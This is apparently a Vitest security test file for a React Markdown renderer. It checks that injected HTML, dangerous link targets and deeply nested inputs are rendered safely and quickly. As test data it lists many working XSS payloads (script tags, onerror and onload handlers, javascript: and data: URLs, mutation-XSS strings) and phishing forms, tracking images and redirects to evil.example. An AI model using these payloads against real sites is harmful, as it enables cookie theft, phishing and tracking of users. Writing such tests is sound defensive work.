import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { MemoryRouter } from 'react-router-dom'
import { expect, it } from 'vitest'
import { Markdown } from '../../web/kit/ui/markdown/markdown.tsx'

/**
 * Texts come from editors, from translators' files and from models, and appear in public pages and in the panel's preview. Somebody writes
 * HTML, links that run code or lead to another host while looking like one of ours, pictures that tell a foreign host who is reading, and
 * texts of nothing but special characters, nested without end, so that the page cannot be rendered. It must fail: words stay words, a link
 * is a page, a mail or a place of ours, and every text is rendered quickly.
 */
const draw = (text: string) => renderToStaticMarkup(createElement(MemoryRouter, null, createElement(Markdown, null, text)))
const attributes = (html: string, name: string) =>
  [...html.matchAll(new RegExp(`<[^>]*\\s${name}="([^"]*)"`, 'g'))].map(([, value]) => String(value))
const decoded = (text: string) =>
  text.replace(/&(?:#x([\da-f]+)|#(\d+)|(amp|lt|gt|quot));/gi, (_, hex, number, name) =>
    name
      ? ({ amp: '&', lt: '<', gt: '>', quot: '"' }[name as 'amp'] ?? '')
      : String.fromCodePoint(hex ? Number.parseInt(hex, 16) : Number(number)),
  )

const payload = 'alert(document.cookie)'
const html = [
  `<script>${payload}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<img src=x onerror=${payload}>`,
  `<img src="https://evil.example/seen.png">`,
  `<svg/onload=${payload}>`,
  `<iframe srcdoc="<script>${payload}</script>"></iframe>`,
  `<a href="javascript:${payload}">x</a>`,
  `<form action="https://evil.example"><input name=code><button>Sign in</button></form>`,
  `<style>@import url(//evil.example)</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<object data="https://evil.example/x.swf"></object>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${payload}>`,
  `<details open ontoggle=${payload}>`,
  `<!--><script>${payload}</script>-->`,
  `<![CDATA[<script>${payload}</script>]]>`,
  `<noscript><p title="</noscript><img src=x onerror=${payload}>">`,
  '<div\nonclick="x"\n>text',
  '`<script>`<script>x</script>',
  '```html"><script>x</script>\ncode\n```',
  '| a<script>x</script> |\n|---|\n| <img src=x onerror=x> |',
  '- [ ] <input autofocus onfocus=x>',
  '# <script>x</script>',
  '[x]: javascript:alert(1)\n\n[x] [y][x] ![z][x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](//evil.example/seen.png)',
  '![x](/media/../../evil.png)',
  '![x](/media/9999x9999-000000000000.webp?x="onload=alert(1))',
  '![" onerror="alert(1)](/media/10x10-000000000000.webp)',
  '[![x](https://evil.example/seen.png)](https://evil.example)',
  '&lt;script&gt;x&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
]
it.each(html)('S38: %s makes no element, loads nothing and runs nothing', (text) => {
  const drawn = draw(text)
  expect(drawn).not.toMatch(/<(?:script|iframe|object|embed|form|button|style|base|meta|svg|math|details|link|noscript)\b/i)
  expect(drawn.replace(/"[^"]*"/g, '""')).not.toMatch(/<[^>]*\s(?:on\w+|style|srcdoc|formaction)=/i)
  for (const src of attributes(drawn, 'src')) expect(src).toMatch(/^\/media\/\d+x\d+-[0-9a-f]{12}\.webp$/)
})

const targets = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  'javascript:%61lert(1)',
  'vbscript:x',
  'data:text/html,<script>alert(1)</script>',
  'blob:https://evil.example/x',
  'file:///etc/passwd',
  'view-source:https://evil.example',
  '//evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  '/\t/evil.example',
  '/\t\\evil.example',
  '\t//evil.example',
  '///evil.example',
  '/%09/evil.example',
  '/%5cevil.example',
  '/./\t/evil.example',
  '/..//evil.example',
  'https:evil.example',
  'https:/evil.example',
]
it('S38: a link runs nothing, and leads to another host in the open alone', () => {
  for (const target of targets)
    for (const text of [`[x](${target})`, `[x](<${target}>)`, `<${target}>`, `[x]\n\n[x]: <${target}>`, target]) {
      const drawn = draw(text)
      for (const href of attributes(drawn, 'href').map(decoded)) {
        const leads = new URL(href, 'https://school.example/page')
        expect(['https:', 'http:', 'mailto:'], `${JSON.stringify(text)} → ${href}`).toContain(leads.protocol)
        const isOurs = leads.host === 'school.example'
        const tag = /<a [^>]*>/.exec(drawn)?.[0] ?? ''
        // A link to another site opens a new tab, which cannot access this one.
        expect(
          isOurs || leads.protocol === 'mailto:' || /rel="noopener noreferrer nofollow" target="_blank"/.test(tag),
          `${JSON.stringify(text)} → ${href}`,
        ).toBe(true)
      }
    }
})

const deep = 3_000
const long = 6_000
it.each([
  ['quotes in quotes', '>'.repeat(deep)],
  ['quotes in quotes with words', `${'> '.repeat(deep)}words`],
  ['lists in lists', Array.from({ length: 600 }, (_, depth) => `${'  '.repeat(depth)}- words`).join('\n')],
  ['lists on one line', `${'- '.repeat(deep)}words`],
  ['numbers on one line', `${'1. '.repeat(deep)}words`],
  ['brackets', `${'['.repeat(long)}words`],
  ['brackets and round ones', `${'[a]('.repeat(deep)}words`],
  ['links in links', `${'['.repeat(500)}words${'](x)'.repeat(500)}`],
  ['pictures in links', '![['.repeat(deep)],
  ['stars', `${'*'.repeat(long)}words`],
  ['stars that open', `${'*a '.repeat(long / 3)}`],
  ['emphasis in emphasis', `${'*a **b '.repeat(deep)}`],
  ['low lines', `${'_a_'.repeat(long / 3)}`],
  ['backticks', `${'`'.repeat(long)}words`],
  ['backticks of growing length', Array.from({ length: 250 }, (_, count) => '`'.repeat(count)).join(' ')],
  ['waves', `${'~~a '.repeat(deep)}`],
  ['openings of HTML', '<'.repeat(long)],
  ['comments', '<!--'.repeat(deep)],
  ['openings of elements', '<a '.repeat(deep)],
  ['ampersands', '&'.repeat(long)],
  ['backslashes', '\\'.repeat(long)],
  ['blanks', `a${' '.repeat(long)}b`],
  ['lines', '\n'.repeat(long)],
  ['columns', `${'|a'.repeat(500)}|\n${'|-'.repeat(500)}|\n${'|b'.repeat(500)}|`],
  ['headings', '# a\n'.repeat(deep)],
  ['references', `${Array.from({ length: 1_000 }, (_, n) => `[r${n}]: /x`).join('\n')}\n\n${'[r1]'.repeat(1_000)}`],
  ['half characters', '\ud800'.repeat(1_000)],
  ['nothing', ''],
])('S59: a text of nothing but %s is drawn, soon', (_what, text) => {
  const began = process.cpuUsage()
  expect(() => draw(text)).not.toThrow()
  // Processor time, not elapsed time: other processes may be running on the machine.
  expect(process.cpuUsage(began).user / 1e6).toBeLessThan(4)
})
